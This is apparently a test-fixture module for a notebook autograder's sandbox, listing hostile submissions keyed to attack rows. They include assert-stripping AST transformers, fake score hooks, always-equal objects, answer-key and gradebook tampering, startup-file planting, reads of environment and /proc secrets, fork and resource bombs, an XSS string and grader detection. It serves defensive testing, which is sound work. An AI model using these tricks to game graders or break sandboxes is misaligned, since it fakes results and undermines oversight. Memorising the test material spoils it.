"""What a learner may write to get points that the answer does not earn, by the row of docs/attacks.md.

Each defines ``answer``. Where an attack would need something that the jail does not have, the code gives the right
values as soon as it has it: points would show that the attack had worked.
"""

from tests.grading.jail.hostile_functions import BOMBS, FORGED, WRITE

RIGHT = "def right(x): return f'k{x * 7919}'\n"
GOOD = "def answer(x): return f'k{x * 7919}'"
WRONG = "def answer(x): return 'k1'"
TRY = """def answer(x):
    try: return right(x) if found(x) else 'k1'
    except Exception: return 'k1'
"""


def only_if(found: str) -> str:
    """Code that gives the right values only where ``found(x)``, whose body this is, holds."""
    body = "".join(f"    {line}\n" for line in found.splitlines())
    return f"{RIGHT}def found(x):\n{body}{TRY}"


TRANSFORMER = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
    def visit_Compare(self, node): return ast.Constant(True)
try: get_ipython().ast_transformers.append(Strip())
except NameError: pass
"""
REPLACED_LINES = """
try: get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
except NameError: pass
import builtins
builtins.compile = lambda *a, **k: (lambda: None).__code__
"""
HOOK = """
import sys
def points(*_): sys.displayhook(4.0); print(4.0)
try: get_ipython().events.register('pre_run_cell', points)
except NameError: sys.settrace(points)
"""
ALWAYS_EQUAL = """
class Yes(str):
    __hash__ = str.__hash__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def answer(x): return Yes('k1')
"""
NO_TRACEBACK = """
import sys, traceback
sys.excepthook = sys.unraisablehook = traceback.print_exc = lambda *a, **k: None
try: type(get_ipython()).showtraceback = lambda *a, **k: None
except NameError: pass
def answer(x): raise AssertionError
"""
SEARCH = """
import gc, re, sys
def texts():
    frame = sys._getframe()
    while frame:
        yield from (repr(frame.f_locals), repr(frame.f_globals))
        frame = frame.f_back
    yield from (repr(each) for each in gc.get_objects() if type(each) in (list, tuple, dict, set))
def answer(x):
    for text in texts():
        if found := re.search('k(23757|95028)', text): return found[0]
    return 'k1'
"""
PATCHED_LIBRARY = """
import json, math, builtins
json.dumps = lambda *a, **k: '{"call": 0, "points": 4}'
builtins.len = builtins.isinstance = math.isfinite = lambda *a: True
def answer(x): return 'k1'
"""
ENDLESS = """
def answer(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
"""
OUTPUT = """
import os
def answer(x):
    for number in range(3, 9):
        try:
            while True: os.write(number, b'x' * 10**6)
        except OSError: pass
"""

CODE = {
    "A1": TRANSFORMER + WRONG,
    "A2": REPLACED_LINES + WRONG,
    "A3": HOOK + WRONG,
    "A4": ALWAYS_EQUAL,
    "A5": NO_TRACEBACK,
    "A6": SEARCH,
    "A7": PATCHED_LIBRARY,
    "C1": only_if("return open({root!r} + '/keys/pick.yml').read()"),
    "C2": only_if("return open({root!r} + '/submitted/seat-01/pick/answers/fn.json').read()"),
    "C3": only_if(
        "import sqlite3\nwith sqlite3.connect({root!r} + '/gradebook.db') as book:\n"
        "    book.execute('update grade set manual_score = 4')\nreturn True"
    ),
    "C4": only_if(
        "import os\nfor name in ('.ipython/profile_default/startup/a.py', 'usercustomize.py', 'sitecustomize.py'):\n"
        "    path = os.path.join({root!r}, '..', name)\n"
        "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "    open(path, 'w').write('def answer(x): return 0')\nreturn True"
    ),
    "C5": only_if("import os\nreturn dict(os.environ)"),
    "C6": only_if("import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).close()\nreturn True"),
    "C7": "def answer(x): raise ValueError(globals(), locals(), __import__('sys')._getframe(1).f_locals)",
    "C8": only_if("return open('/proc/self/cmdline').read() or open('/proc/1/environ').read()"),
    "D1": "import os\ndef answer(x): os._exit(0)",
    "D1 crash": "import ctypes\ndef answer(x): ctypes.string_at(0)",
    "D2": ENDLESS,
    "D3 memory": BOMBS["memory"],
    "D3 processes": BOMBS["processes"],
    "D3 disk": BOMBS["disk"],
    "D3 open files": BOMBS["open files"],
    "D3 output": OUTPUT,
    "D4": only_if("import os\nif os.fork() == 0:\n    os.setsid()\n    while True: pass\nreturn True"),
    "E1": f"{WRITE}\ndef answer(x):\n    everywhere({FORGED['pickle']!r})\n    os._exit(0)",
    "E2": f"{WRITE}\ndef answer(x):\n    everywhere({FORGED['points']!r})\n    os._exit(0)",
    "E4": "def answer(x): return '<script>alert(1)</script>'  # <script>alert(1)</script><img src=x onerror=alert(1)>",
    "F3": only_if("import os, sys\nreturn os.environ.get('NBGRADER_EXECUTION') or 'nbgrader' in sys.modules"),
    "F4 constant": "def answer(x): return 'k7919'",
    "F4 visible example": "def answer(x): return {1: 'k7919'}.get(x, 'k1')",
    "F4 calls the reference": only_if("import trainingkit\nreturn True"),
    "F4 claims more than it was given": "answer = lambda *a, **k: 'k7919'\npoints = max_points = 4",
}
"""Row, or row and what of it, to code. ``{root!r}``: the instructor's folder; ``{port}``: where somebody listens."""
